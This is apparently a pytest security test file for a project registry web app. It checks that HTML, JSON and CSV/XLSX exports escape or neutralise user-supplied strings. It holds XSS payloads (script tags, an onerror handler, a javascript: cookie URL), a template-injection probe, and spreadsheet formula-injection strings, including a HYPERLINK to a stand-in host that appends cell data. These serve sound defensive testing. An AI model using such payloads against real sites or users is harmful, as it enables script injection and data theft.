"""Output escaping: user-supplied strings with markup in every place a page shows them (both engines).

Names, descriptions, notes, support descriptions, sources, zones, organisations, report problems
and news documents carry ``PAYLOAD``; every page that shows them must show it escaped as text, never
as markup; JSON embedded in pages must stay one valid JSON block (a ``</script>`` or ``<!--`` in a
name must not end or bend the block); ``{{7*7}}`` must not be evaluated. Links from user data
(sources, documents) must be http(s) only.
"""

from __future__ import annotations

import json
import re

import pytest
from orken.auth.guard import system_session
from tests.security.conftest import HOME

PAYLOAD = "<script>alert(1)</script>\"><img src=x onerror=alert(2)>{{7*7}}</script><!--<script>'"
RAW = ["<script>alert(1)", "<img src=x onerror", "</script><!--"]
ESCAPED = "&lt;script&gt;alert(1)&lt;/script&gt;"
EVIL_URL = "javascript:alert(document.cookie)"


@pytest.fixture
def marked(client, engine):
    org = client.post("/api/v1/organisations", json={"name": {"ru": "Org " + PAYLOAD}, "kind": "investor"}).json()
    zone = client.post("/api/v1/zones", json={"name": {"ru": "Zone " + PAYLOAD}, "kind": "industrial_zone",
                                              "region_kato": HOME, "description": PAYLOAD,
                                              "sources": [{"title": PAYLOAD, "url": EVIL_URL}]}).json()
    project = client.post("/api/v1/projects", json={
        "name": {"kk": "Жоба " + PAYLOAD, "ru": "Проект " + PAYLOAD, "en": "Project " + PAYLOAD},
        "description": {"ru": PAYLOAD}, "region_kato": HOME, "oked": "24.10", "status": "planned",
        "settlement": PAYLOAD, "curator": PAYLOAD, "note": PAYLOAD, "zone_id": zone["id"],
        "organisations": [{"organisation_id": org["id"], "role": "investor"}],
        "support": [{"kind": "subsidy", "description": PAYLOAD}],
        "sources": [{"title": PAYLOAD, "url": EVIL_URL, "quote": PAYLOAD}],
        "investment_planned": {"amount": "5000000000"}, "lat": 49.8, "lon": 73.1})
    assert project.status_code == 201, project.text
    project = project.json()
    report = client.post("/api/v1/reports", json={"project_id": project["id"], "year": 2025, "quarter": 1,
                                                  "problems": PAYLOAD, "needs": PAYLOAD})
    assert report.status_code == 201, report.text
    client.post(f"/api/v1/reports/{report.json()['id']}/submit")
    from orken.news.ingest import DocumentIn, ingest
    from tests.news.conftest import RU

    with system_session(engine, "tests") as s:
        doc = ingest(s, DocumentIn(text=RU, title=PAYLOAD, publisher=PAYLOAD, url=EVIL_URL))
    facts = client.get("/api/v1/review", params={"document": doc.document_id}).json()["items"]
    assert facts
    return {"project": project, "zone": zone, "org": org, "fact": facts[0]}


def _pages(m) -> list[str]:
    p, z = m["project"]["id"], m["zone"]["id"]
    return ["/", "/?lang=en", "/projects", f"/projects?q={p}", f"/projects/{p}", f"/projects/{p}?lang=kk",
            f"/zones/{z}", f"/regions/{HOME}", "/dashboard", "/monitoring?year=2025",
            f"/monitoring/region/{HOME}?year=2025", "/monitoring/inbox", f"/monitoring/reports/new?project={p}",
            "/review", f"/review/{m['fact']['id']}", f"/auth/login?next={PAYLOAD}"]


def _script_blocks(html: str) -> list[tuple[str, str]]:
    """(attributes, content) of each <script>, ending where an HTML parser ends it: at the first </script."""
    return [(m.group(1), m.group(2)) for m in re.finditer(r"<script\b([^>]*)>(.*?)</script", html, re.S | re.I)]


def test_user_strings_are_escaped_on_every_page(client, marked):
    shown, wrong = 0, []
    for url in _pages(marked):
        r = client.get(url)
        assert r.status_code == 200, (url, r.status_code)
        html = r.text
        for raw in RAW:
            # raw markup may only sit inside JSON blocks, where it is escaped as \u003c... (checked below)
            outside = re.sub(r"<script type=\"application/json\"[^>]*>.*?</script>", "", html, flags=re.S)
            if raw in outside:
                wrong.append(f"{url}: raw {raw!r}")
        if "49" in re.findall(r"Проект (\S*)", html)[:1]:
            wrong.append(f"{url}: template expression evaluated")
        shown += ESCAPED in html
        for attrs, body in _script_blocks(html):
            if "src=" in attrs:
                if body.strip():
                    wrong.append(f"{url}: script with src and a body")
                continue
            if 'type="application/json"' not in attrs:
                wrong.append(f"{url}: inline executable script {attrs!r}")
                continue
            if "<!--" in body or "<script" in body.lower():
                wrong.append(f"{url}: markup inside a JSON block can change where it ends")
            try:
                json.loads(body)
            except ValueError:
                wrong.append(f"{url}: a JSON block is broken: {body[:120]!r}")
        if re.search(r'href="\s*javascript:', html, re.I):
            wrong.append(f"{url}: a javascript: link from user data")
    assert not wrong, "\n".join(wrong)
    assert shown >= 10  # the payload really is on the pages (escaped), so the checks above can fail


def test_page_json_and_api_return_the_strings_unchanged(client, marked):
    p = marked["project"]["id"]
    assert client.get(f"/api/v1/projects/{p}").json()["name"]["ru"] == "Проект " + PAYLOAD
    assert client.get(f"/projects/{p}.json").json()["project"]["name"]["ru"] == "Проект " + PAYLOAD


FORMULAS = ["=HYPERLINK(\"http://x.example/?\"&A1,\"open\")", "+1+2", "-3+4", "@SUM(1,2)", "\t=1+1"]


def test_exports_neutralise_formulas(client):
    stored = []
    for i, f in enumerate(FORMULAS):
        r = client.post("/api/v1/projects", json={"name": {"ru": f}, "region_kato": HOME, "settlement": f,
                                                  "note": f, "external_id": f"x{i}"})
        assert r.status_code == 201, r.text
        stored.append(r.json()["name"]["ru"])  # as the registry keeps it (surrounding blanks trimmed)
    csv_text = client.get("/api/v1/export/projects.csv").content.decode("utf-8-sig")
    import csv
    import io

    cells = [c for row in csv.reader(io.StringIO(csv_text)) for c in row]
    for f in stored:
        assert f not in cells and "'" + f in cells, f  # prefixed with an apostrophe: text, not a formula
    from openpyxl import load_workbook

    wb = load_workbook(io.BytesIO(client.get("/api/v1/export/projects.xlsx").content))
    values = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
    assert not [c.coordinate for c in values if c.data_type == "f"], "formula cells in the export"
    texts = {c.value for c in values if isinstance(c.value, str)}
    for f in stored:
        assert "'" + f in texts or f in texts
